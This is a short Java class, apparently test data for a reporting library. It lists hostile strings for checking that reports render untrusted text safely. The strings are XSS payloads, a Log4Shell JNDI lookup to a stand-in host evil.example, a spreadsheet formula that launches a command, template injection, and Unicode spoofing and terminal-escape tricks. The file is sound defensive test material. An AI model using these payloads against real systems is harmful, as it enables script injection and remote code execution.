package org.tocsin.report;

import java.util.List;

/// Texts that an attacker puts where a document shows them.
public final class Hostile {
    public static final String OVERRIDE = Character.toString(0x202E);
    public static final String ZERO_WIDTH = Character.toString(0x200B);
    public static final String ESCAPE = Character.toString(0x1B);
    public static final String LONE = Character.toString(0xD800);

    public static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "</style><style>body{display:none}</style>",
            "</title><svg onload=alert(1)>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "&lt;b&gt;&#60;i&#62;",
            "javascript:alert(1)",
            "https://evil.example/a?b=c",
            "hxxp and HTTP://EVIL.EXAMPLE:8080/x.exe",
            "user@evil.example 10.1.2.3",
            "photo" + OVERRIDE + "gpj.exe",
            "pay" + ZERO_WIDTH + "pal",
            ESCAPE + "[31mred" + ESCAPE + "]0;title\u0007",
            Character.toString(0x9B) + "2J",
            LONE + "lone",
            "lone" + Character.toString(0xDC00),
            "null\u0000byte",
            "two\r\nlines\u2028and\u2029more",
            "]]><x/>",
            "{{constructor.constructor('alert(1)')()}}",
            "${jndi:ldap://evil.example/a}",
            "=cmd|' /C calc'!A0",
            "\uFEFF\uFFFE\uFFFF",
            "😀 中文 བོད་ ئۇيغۇر",
            "x".repeat(20_000));

    private Hostile() {}
}
